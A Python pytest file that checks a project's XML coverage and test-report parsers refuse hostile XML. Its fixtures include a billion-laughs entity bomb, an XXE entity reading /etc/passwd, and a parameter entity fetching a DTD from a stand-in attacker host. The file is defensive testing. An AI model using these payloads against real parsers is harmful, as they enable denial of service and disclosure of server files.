"""Hostile XML given to every XML report parser is refused, never expanded or fetched."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from assay.reports.clover import parse_clover
from assay.reports.cobertura import parse_cobertura
from assay.reports.detect import parse_coverage
from assay.reports.jacoco import parse_jacoco
from assay.reports.junit import parse_junit
from assay.reports.model import ReportError

PARSERS: list[Callable[..., object]] = [
    parse_junit,
    parse_cobertura,
    parse_jacoco,
    parse_clover,
    parse_coverage,
]
IDS = ["junit", "cobertura", "jacoco", "clover", "detect"]
# A root element each parser accepts, so that the hostile part is what gets refused.
ROOTS = dict(zip(PARSERS, ["testsuite", "coverage", "report", "coverage", "coverage"], strict=True))

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE coverage [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<coverage><sources><source>&secret;</source></sources></coverage>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE report [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<report name="x"/>
"""


def _refusal(parser: Callable[..., object], data: bytes) -> str:
    with pytest.raises(ReportError) as caught:
        parser(data, "ci/report.xml")
    return caught.value.message


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_billion_laughs_is_refused(parser: Callable[..., object]) -> None:
    assert _refusal(parser, BILLION_LAUGHS) == (
        "ci/report.xml:3: refused: the report declares entities (<!ENTITY lol ...>), "
        "which could expand without bound or read other files"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_external_entity_is_refused(parser: Callable[..., object]) -> None:
    assert _refusal(parser, EXTERNAL_ENTITY) == (
        "ci/report.xml:3: refused: the report declares entities (<!ENTITY secret ...>), "
        "which could expand without bound or read other files"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_external_parameter_entity_is_refused(parser: Callable[..., object]) -> None:
    assert _refusal(parser, PARAMETER_ENTITY) == (
        "ci/report.xml:3: refused: the report declares entities (<!ENTITY remote ...>), "
        "which could expand without bound or read other files"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_entity_planted_in_an_external_dtd_is_neither_read_nor_expanded(
    parser: Callable[..., object], tmp_path: Path
) -> None:
    dtd = tmp_path / "planted.dtd"
    dtd.write_text('<!ENTITY planted "from disk">\n')
    root = ROOTS[parser]
    data = f'<?xml version="1.0"?>\n<!DOCTYPE {root} SYSTEM "{dtd.as_uri()}">\n'
    data += f"<{root}>&planted;</{root}>"
    assert _refusal(parser, data.encode()) == (
        "ci/report.xml:3: refused: the report uses the undeclared entity &planted;"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_nesting_deeper_than_any_report_is_refused(parser: Callable[..., object]) -> None:
    root = ROOTS[parser].encode()
    data = b"<%s>" % root + b"<a>" * 1000 + b"</a>" * 1000 + b"</%s>" % root
    assert _refusal(parser, data) == (
        "ci/report.xml:1: refused: elements nested deeper than 200 levels"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_size_limit(parser: Callable[..., object]) -> None:
    with pytest.raises(ReportError) as caught:
        parser(b"<testsuite/>", "ci/report.xml", max_bytes=11)
    assert caught.value.message == (
        "ci/report.xml: refused: the report is 12 bytes, over the limit of 11 bytes"
    )


@pytest.mark.parametrize("parser", PARSERS, ids=IDS)
def test_undecodable_text_is_refused(parser: Callable[..., object]) -> None:
    assert _refusal(parser, b'<?xml version="1.0" encoding="rot13"?><a/>').startswith(
        "ci/report.xml:1: invalid XML: cannot decode the text ("
    )
    root = ROOTS[parser].encode()
    assert _refusal(parser, b"<%s>\n\xff\xfe</%s>" % (root, root)) == (
        "ci/report.xml:2: invalid XML: not well-formed (invalid token)"
    )
